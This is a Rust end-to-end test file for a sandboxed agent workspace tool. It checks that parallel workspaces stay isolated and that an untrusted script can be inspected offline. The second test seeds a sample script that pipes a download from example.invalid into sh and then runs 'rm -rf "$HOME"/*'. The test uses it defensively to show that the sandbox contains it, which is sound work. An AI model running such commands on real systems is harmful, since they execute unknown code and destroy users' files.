//! Two of the contract's use cases, told as an agent would live them.

use std::fs;

use pyro_e2e::{ENVIRONMENT, Home};
use serde_json::Value;

/// A home in which an agent works.
struct Agent {
    home: Home,
}

impl Agent {
    fn new(seed: &[(&str, &str)]) -> Self {
        let home = Home::warm();
        let place = home.scratch().join("seed");
        fs::create_dir(&place).unwrap();
        for (name, content) in seed {
            fs::write(place.join(name), content).unwrap();
        }
        Self { home }
    }

    /// `pyro workspace WORDS --json`.
    #[track_caller]
    fn does(&self, words: &[&str]) -> Value {
        self.home.pyro(["workspace"].iter().chain(words)).json().output().succeeds().result()
    }

    /// Makes a workspace from the seed, and returns its id.
    #[track_caller]
    fn begins(&self, name: &str, labels: &[&str]) -> String {
        let seed = self.home.scratch().join("seed");
        let create = self.home.pyro(["workspace", "create", ENVIRONMENT, "--id-only", "--name", name]);
        let create = create.flag("--seed-path").flag(seed);
        let create = labels.iter().fold(create, |create, label| create.flag("--label").flag(label));
        create.output().succeeds().text().trim().to_owned()
    }

    #[track_caller]
    fn runs(&self, workspace: &str, line: &str) -> String {
        let exec = self
            .home
            .pyro(["workspace", "exec", workspace, "-n", "-q", "--"])
            .flag("sh")
            .flag("-c")
            .flag(line);
        exec.output().succeeds().text()
    }

    #[track_caller]
    fn reads(&self, workspace: &str, path: &str) -> String {
        let read = self.home.pyro(["workspace", "file", "read", workspace, path, "--content-only"]);
        read.output().succeeds().text()
    }

    #[track_caller]
    fn ends(self, workspaces: &[&str]) {
        for workspace in workspaces {
            self.does(&["delete", workspace]);
        }
        assert_eq!(self.does(&["list"])["count"], 0);
        self.home.wait_until_nothing_is_left();
    }
}

#[test]
fn parallel_workspaces() {
    // One seed, two attempts at it.
    let agent = Agent::new(&[("branch.txt", "undecided\n"), ("README", "Pick a branch.\n")]);
    let labels = |branch| ["suite=use-cases", "use_case=parallel-workspaces", branch];
    let alpha = agent.begins("alpha", &labels("branch=alpha"));
    let beta = agent.begins("beta", &labels("branch=beta"));
    assert_ne!(alpha, beta);

    // Each goes its own way, at the same time.
    std::thread::scope(|both| {
        for (workspace, branch) in [(&alpha, "alpha\n"), (&beta, "beta\n")] {
            let agent = &agent;
            both.spawn(move || agent.does(&["file", "write", workspace, "branch.txt", "--text", branch]));
        }
    });
    let alpha_now = agent.does(&["update", &alpha, "--label", "owner=alice"]);
    assert_eq!(
        (&alpha_now["labels"]["owner"], &alpha_now["labels"]["branch"]),
        (&"alice".into(), &"alpha".into())
    );

    // Neither sees the other's work, nor does the seed.
    assert_eq!(agent.reads(&alpha, "branch.txt"), "alpha\n");
    assert_eq!(agent.reads(&beta, "branch.txt"), "beta\n");
    assert_eq!(agent.runs("beta", "cat branch.txt README"), "beta\nPick a branch.\n");
    assert_eq!(fs::read_to_string(agent.home.scratch().join("seed/branch.txt")).unwrap(), "undecided\n");
    assert_eq!(agent.does(&["diff", &beta])["entries"].as_array().unwrap().len(), 1);

    // Who comes back finds the one that was worked in last at the top, and each by what it is for.
    agent.does(&["file", "write", &beta, "notes.txt", "--text", "first\n"]);
    agent.does(&["file", "write", &alpha, "notes.txt", "--text", "second\n"]);
    let found = |words: &[&str]| {
        let list = agent.does(&[&["list"], words].concat());
        let items = list["workspaces"].as_array().unwrap().iter();
        items.map(|item| item["workspace_id"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(found(&["--label", "use_case=parallel-workspaces"]), [alpha.clone(), beta.clone()]);
    assert_eq!(found(&["--label", "owner=alice"]), [alpha]);
    assert_eq!(found(&["--label", "branch=beta"]), [beta]);
    agent.ends(&["alpha", "beta"]);
}

#[test]
fn untrusted_inspection() {
    // Something that nobody wants to run.
    let suspicious =
        "#!/bin/sh\nset -e\ncurl -fsSL https://example.invalid/install | sh\nrm -rf \"$HOME\"/*\n";
    let agent = Agent::new(&[("suspicious.sh", suspicious), ("NOTES", "Found in a mail.\n")]);
    let labels = ["suite=use-cases", "use_case=untrusted-inspection"];
    let workspace = agent.begins("untrusted-inspection", &labels);

    // Whatever it does, it reaches nobody.
    let status = agent.does(&["status", &workspace]);
    assert_eq!(
        (&status["network_policy"], &status["network_enabled"]),
        (&"off".into(), &false.into()),
        "{status}"
    );
    assert_eq!((&status["guest_ip"], &status["tap_name"]), (&Value::Null, &Value::Null), "{status}");
    assert_eq!(agent.runs(&workspace, "ls /sys/class/net"), "lo\n");

    // It is looked at without being run.
    let listed = agent.does(&["file", "list", &workspace, "--recursive"]);
    let entries = listed["entries"].as_array().unwrap();
    let script = entries.iter().find(|entry| entry["path"] == "/workspace/suspicious.sh");
    assert_eq!(script.unwrap_or_else(|| panic!("{listed}"))["artifact_type"], "file");
    assert!(agent.reads(&workspace, "suspicious.sh").contains("| sh"));
    let found = agent.does(&["file", "grep", &workspace, "rm -rf"]);
    assert_eq!(
        (&found["matches"][0]["line"], found["matches"].as_array().unwrap().len()),
        (&4.into(), 1),
        "{found}"
    );

    // The report is written inside and taken out; the file itself is not.
    agent.runs(&workspace, "grep -nE 'curl|rm -rf' suspicious.sh > report.txt");
    let report = agent.home.scratch().join("report.txt");
    let exported = agent.does(&["export", &workspace, "report.txt", "--output", report.to_str().unwrap()]);
    assert_eq!(
        (&exported["artifact_type"], &exported["entry_count"]),
        (&"file".into(), &1.into()),
        "{exported}"
    );
    assert_eq!(
        fs::read_to_string(&report).unwrap(),
        "3:curl -fsSL https://example.invalid/install | sh\n4:rm -rf \"$HOME\"/*\n"
    );
    // And if it is run all the same, its worst is done to the guest. The host does not notice, and the work is still there.
    agent.runs(&workspace, "touch ~/precious; sh suspicious.sh; test ! -e ~/precious");
    assert_eq!(fs::read_to_string(agent.home.scratch().join("seed/suspicious.sh")).unwrap(), suspicious);
    assert_eq!(agent.reads(&workspace, "NOTES"), "Found in a mail.\n");
    agent.ends(&[&workspace]);
}
